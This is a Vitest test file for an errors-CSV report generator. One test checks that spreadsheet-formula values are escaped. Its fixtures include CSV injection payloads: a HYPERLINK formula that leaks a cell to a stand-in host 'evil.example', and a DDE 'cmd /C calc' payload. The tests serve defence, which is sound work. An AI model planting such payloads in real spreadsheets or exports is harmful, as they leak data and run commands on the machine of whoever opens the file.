import { describe, expect, it } from 'vitest';
import { errorsFileName, problemsToCsv } from '../../../src/lib/live/errors-csv.ts';
import { parseCsv } from '../../../src/lib/live/csv.ts';
import { checkCsv } from '../../../src/lib/live/check.ts';
import { problem } from '../../../src/lib/live/problems.ts';
import { TODAY, fixture, referenceContext } from './helpers.ts';

describe('errors CSV', () => {
	it('writes file, table, row, column, value, code, severity and the message', () => {
		const csv = problemsToCsv(
			[problem('unknown_participant', { file: 'services.csv', table: 'services', row: 7, column: 'participant_id', value: 'X999' })],
			'en'
		);
		expect(csv).toBe(
			'file,table,row,column,value,code,severity,message\r\n' +
				'services.csv,services,7,participant_id,X999,unknown_participant,error,"Unknown participant ""X999"": load it in participants first."\r\n'
		);
	});

	it('escapes formula-like values so the report itself is safe to open in a spreadsheet, and round-trips', async () => {
		const ctx = await referenceContext();
		const r = await checkCsv('hyperlink.csv', fixture('hyperlink.csv'), ctx, { today: TODAY });
		const csv = problemsToCsv(r.problems);
		const back = parseCsv(csv).records.map((x) => x.fields);
		expect(back[0]).toEqual(['file', 'table', 'row', 'column', 'value', 'code', 'severity', 'message']);
		expect(back.slice(1).map((f) => f[4])).toEqual([
			`'=HYPERLINK("http://evil.example/?leak="&A2,"Click")`,
			`'+cmd|' /C calc'!A0`,
			`'-2+3`
		]);
		for (const row of back.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
		expect(back[1][7]).toBe('Šūna izskatās pēc formulas (sākas ar =, +, -, @); tā netiek izpildīta un rinda noraidīta.');
	});

	it('suggests a download name', () => {
		expect(errorsFileName('services 2024-03.csv')).toBe('services 2024-03.errors.csv');
		expect(errorsFileName('book.xlsx#participants')).toBe('book-participants.errors.csv');
	});
});
